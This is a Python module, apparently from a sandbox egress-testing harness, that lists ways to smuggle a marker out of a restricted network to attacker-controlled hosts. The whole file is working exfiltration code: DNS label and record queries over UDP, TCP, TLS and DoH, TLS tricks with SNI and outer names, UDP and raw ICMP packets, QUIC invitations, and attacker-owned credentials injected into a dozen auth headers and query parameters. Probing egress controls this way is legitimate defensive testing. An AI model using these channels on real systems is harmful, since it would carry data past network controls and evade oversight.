"""Ways out beside HTTP: names, other protocols, and a credential of the attacker's own."""
import re
from attack import *

RESOLVER = os.environ.get("DNS_ADDRESS", "")


def query(name, kind=1):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 4660, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", kind, 1)


def datagram(server, port, data, wait=0.7):
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(wait)
    state.sent = True
    sock.connect((server, port))
    sock.send(data)
    return sock.recv(4096)


def resolvers():
    """The one that programs are told of, and the attacker's."""
    told = re.findall(r"nameserver (\d\S+)", open("/etc/resolv.conf").read())
    return [*told[:1], RESOLVER]


def every(attempts):
    """What each of them gave, error or not."""
    seen = b""
    for attempt in attempts:
        try:
            seen += attempt() or b""
        except Exception as error:
            seen += f"[{type(error).__name__}]".encode()
    return seen


@attack
def dns_label(mark):
    """What is to be carried out, as a label of a name."""
    state.sent = True
    return every([lambda: socket.gethostbyname(f"{mark}.attacker.example").encode()])


@attack
def dns_records(mark):
    """TXT, NULL, MX and others, at every resolver."""
    return every([lambda s=s, k=k: datagram(s, 53, query(f"{mark}.attacker.example", k))
                  for s in resolvers() for k in (16, 10, 15, 28, 33)])


@attack
def dns_tcp(mark):
    data = query(f"{mark}.attacker.example")

    def one(server):
        with straight(server, 53, 1) as sock:
            return talk(sock, struct.pack(">H", len(data)) + data)

    return every([lambda s=s: one(s) for s in resolvers()])


@attack
def dns_tls(mark):
    data = query(f"{mark}.attacker.example")

    def one():
        with secure(straight(EVIL_ADDRESS, 853, 1), EVIL) as sock:
            return talk(sock, struct.pack(">H", len(data)) + data)

    return every([one])


@attack
def dns_https(mark):
    """DNS in HTTPS at an approved host that serves it beside what it is approved for."""
    host = "rules.acme.example"
    return ask(mark, "/dns-query?dns=AAABAAAB", host=host, headers=["Accept: application/dns-message"])


@attack
def ech_record(mark):
    """The record of type 65 that lets a client hide the name of the server it speaks to."""
    return every([lambda s=s: datagram(s, 53, query("api.acme.example", 65)) for s in resolvers()])


@attack
def no_name(mark):
    """TLS without a server name, and another name in the request."""
    with secure(straight(EVIL_ADDRESS, 443), None) as sock:
        return talk(sock, request(mark, "/hello", host=API))


@attack
def outer_name(mark):
    """The handshake names an approved host at the attacker's address, as an outer name would."""
    with secure(straight(EVIL_ADDRESS, 443), OPEN) as sock:
        return talk(sock, request(mark, "/hello", host=EVIL, auth=TOKEN))


@attack
def udp(mark):
    return every([lambda p=p: datagram(EVIL_ADDRESS, p, mark.encode()) for p in (443, 53, 123)])


@attack
def raw_sockets(mark):
    """ICMP and packets of our own making, where the kernel gives such sockets."""
    def icmp(kind):
        sock = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
        state.sent = True
        echo = struct.pack(">BBHHH", 8, 0, 0, 1, 1) + mark.encode().ljust(32)
        total = sum(struct.unpack(f">{len(echo) // 2}H", echo))
        total = (total >> 16) + (total & 0xFFFF)
        sock.sendto(echo[:2] + struct.pack(">H", ~(total + (total >> 16)) & 0xFFFF) + echo[4:], (EVIL_ADDRESS, 0))

    def protocol(number):
        sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, number)
        sock.sendto(mark.encode(), (EVIL_ADDRESS, 0))

    state.sent = True
    return every([lambda: icmp(socket.SOCK_DGRAM), lambda: icmp(socket.SOCK_RAW), lambda: protocol(253)])


@attack
def alt_svc(mark):
    """An answer that invites the client to come back by QUIC."""
    return ask(mark, "/alt-svc")


OWN = {
    "bearer": {"headers": [f"Authorization: Bearer {MINE}"]},
    "basic": {"headers": ["Authorization: Basic " + base64.b64encode(f"me:{MINE}".encode()).decode()]},
    "token": {"headers": [f"Authorization: token {MINE}"]},
    "x_api_key": {"headers": [f"X-Api-Key: {MINE}"]},
    "auth_token": {"headers": [f"X-Auth-Token: {MINE}"]},
    "private_token": {"headers": [f"Private-Token: {MINE}"]},
    "cookie": {"headers": [f"Cookie: session={MINE}"]},
    "query_key": {"target": f"/hello?key={MINE}"},
    "query_token": {"target": f"/hello?access_token={MINE}"},
    "query_signed": {"target": f"/hello?X-Amz-Signature={MINE}&X-Amz-Credential={MINE}"},
    "beside": {"headers": [f"X-Api-Key: {MINE}"], "auth": None},
    "twice": {"headers": [f"Authorization: Bearer {MINE}"], "auth": None},
}
for name, how in OWN.items():
    def own(mark, how=how):
        return ask(mark, how.get("target", "/hello"), auth=how.get("auth", ""), headers=how.get("headers", ()))

    ATTACKS[f"own_{name}"] = own
